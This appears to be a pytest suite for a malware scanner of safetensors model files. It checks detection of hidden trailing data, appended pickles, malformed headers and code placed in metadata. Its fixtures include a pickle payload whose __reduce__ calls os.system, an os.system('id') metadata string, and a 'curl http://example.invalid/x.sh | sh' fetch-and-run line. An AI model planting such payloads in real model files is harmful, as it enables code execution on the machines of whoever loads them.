"""safetensors: headers checked as the reference loader checks them, bytes no tensor accounts
for read as hidden members, metadata strings checked for code; the tensor data is never read."""
import io
import json
import pickle
import struct
import tarfile
import zipfile

import numpy as np
import pytest
from safetensors.numpy import save, save_file

import malhug
from malhug.formats import analyse
from malhug.formats.base import ScanContext


class Payload:
    def __reduce__(self):
        import os
        return os.system, ("echo hello",)


def only(path):
    report = malhug.scan(path)
    assert len(report.files) == 1
    return report.files[0]


def raw(header: dict, data: bytes = b"", pad: bool = True) -> bytes:
    text = json.dumps(header).encode()
    if pad:
        text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def write(tmp_path, data: bytes, name="model.safetensors"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def tensors():
    return {"embed": np.zeros((8, 4), dtype=np.float16), "bias": np.arange(4, dtype=np.int64),
            "mask": np.ones(3, dtype=bool), "scale": np.array(2.5, dtype=np.float64)}


def test_library_file_with_several_dtypes_and_metadata_is_clean(tmp_path):
    data = save(tensors(), metadata={"format": "pt", "description": "A model (version 2; see README)."})
    result = only(write(tmp_path, data))
    assert result.format == "safetensors"
    assert str(result.verdict) == "clean", (result.findings, result.problems)


def test_torch_dtypes_are_known(tmp_path):
    torch = pytest.importorskip("torch")
    from safetensors.torch import save as save_torch

    data = save_torch({"a": torch.zeros(3, 5, dtype=torch.bfloat16), "b": torch.zeros(7, dtype=torch.float8_e4m3fn),
                       "c": torch.zeros(2, dtype=torch.float8_e5m2), "d": torch.zeros(2, dtype=torch.uint16),
                       "e": torch.zeros(0, 4)})
    assert str(only(write(tmp_path, data)).verdict) == "clean"


def test_pickle_after_the_tensors_is_found(tmp_path):
    data = save(tensors()) + pickle.dumps(Payload(), protocol=2)
    result = only(write(tmp_path, data))
    assert str(result.verdict) == "malicious"
    hidden = [f for f in result.findings if f.rule == "safetensors-hidden-data"]
    assert len(hidden) == 1 and str(hidden[0].severity) == "medium"
    assert any(f.category == "command_exec" and f.location.member.startswith("<trailing data at ")
               for f in result.findings)


def test_checkpoint_zip_appended_to_the_tensors_is_found(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Payload(), protocol=2))
        archive.writestr("archive/version", "3\n")
    result = only(write(tmp_path, save(tensors()) + buffer.getvalue()))
    assert str(result.verdict) == "malicious"
    assert any(f.category == "command_exec" for f in result.findings)


def test_gap_between_tensors_is_hidden_data(tmp_path):
    header = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
              "b": {"dtype": "F32", "shape": [2], "data_offsets": [24, 32]}}
    result = only(write(tmp_path, raw(header, b"\0" * 8 + b"hidden text here" + b"\0" * 8)))
    assert str(result.verdict) == "suspicious"
    (finding,) = [f for f in result.findings if f.rule == "safetensors-hidden-data"]
    assert "16 bytes of gap" in finding.message


def test_trailing_zeros_are_still_reported(tmp_path):
    result = only(write(tmp_path, save(tensors()) + b"\0" * 4096))
    assert any(f.rule == "safetensors-hidden-data" for f in result.findings)


@pytest.mark.parametrize("header, reason", [
    ({"a": {"dtype": "F128", "shape": [2], "data_offsets": [0, 32]}}, "unknown dtype"),
    ({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, "needs 12 bytes"),
    ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
      "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, "overlap"),
    ({"a": {"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}}, "bad shape"),
    ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8.0]}}, "bad data_offsets"),
    ({"a": {"dtype": "F4", "shape": [3], "data_offsets": [0, 2]}}, "whole bytes"),
    ({"a": {"dtype": "F32", "shape": [2]}}, "lacks"),
    ({"__metadata__": {"n": 3}}, "__metadata__"),
])
def test_malformed_headers_are_inconclusive(tmp_path, header, reason):
    result = only(write(tmp_path, raw(header, b"\0" * 16)))
    assert str(result.verdict) == "inconclusive"
    assert reason in result.problems[0].reason


def test_header_that_is_not_an_object_is_a_problem():
    ctx = ScanContext("model.safetensors")
    analyse(io.BytesIO(raw([1, 2])), ctx, None, hint="safetensors")
    assert "not an object" in ctx.problems[0].reason


def test_duplicate_keys_are_inconclusive(tmp_path):
    text = b'{"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}, "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}'
    result = only(write(tmp_path, struct.pack("<Q", len(text)) + text + b"\0"))
    assert "appears twice" in result.problems[0].reason


def test_tensors_past_the_end_of_the_file_are_inconclusive(tmp_path):
    data = save({"w": np.zeros(1024, dtype=np.float32)})
    result = only(write(tmp_path, data[:-100]))
    assert str(result.verdict) == "inconclusive"
    assert "truncated" in result.problems[0].reason


@pytest.mark.parametrize("cut", [4, 9, 40])
def test_truncated_headers_are_inconclusive(tmp_path, cut):
    data = save(tensors())
    ctx = ScanContext("model.safetensors")
    analyse(io.BytesIO(data[:cut]), ctx, None, hint="safetensors")
    assert ctx.problems and not ctx.findings


def test_metadata_with_code_is_found(tmp_path):
    data = save(tensors(), metadata={"format": "pt", "init": "import os\nos.system('id')"})
    result = only(write(tmp_path, data))
    assert str(result.verdict) == "malicious"
    assert any(f.rule == "metadata-code" and "'init'" in f.message for f in result.findings)


def test_metadata_with_a_shell_pattern_informs(tmp_path):
    data = save(tensors(), metadata={"notes": "curl http://example.invalid/x.sh | sh"})
    result = only(write(tmp_path, data))
    assert any(f.rule.startswith("pattern-") for f in result.findings)


def test_only_the_header_is_read():
    data = save({"w": np.zeros(8 << 20, dtype=np.uint8)})
    stream = CountingStream(data)
    ctx = ScanContext("model.safetensors")
    assert analyse(stream, ctx, None) == "safetensors"
    assert not ctx.problems and not ctx.findings
    assert stream.bytes_read < 128 * 1024


def test_hidden_pickle_in_a_tar_member_is_found(tmp_path):
    payload = save(tensors()) + pickle.dumps(Payload(), protocol=2)
    path = tmp_path / "models.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        info = tarfile.TarInfo("model.safetensors")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    result = only(path)
    assert str(result.verdict) == "malicious"
    assert any(f.rule == "safetensors-hidden-data" for f in result.findings)


class CountingStream(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        data = super().read(size)
        self.bytes_read += len(data)
        return data
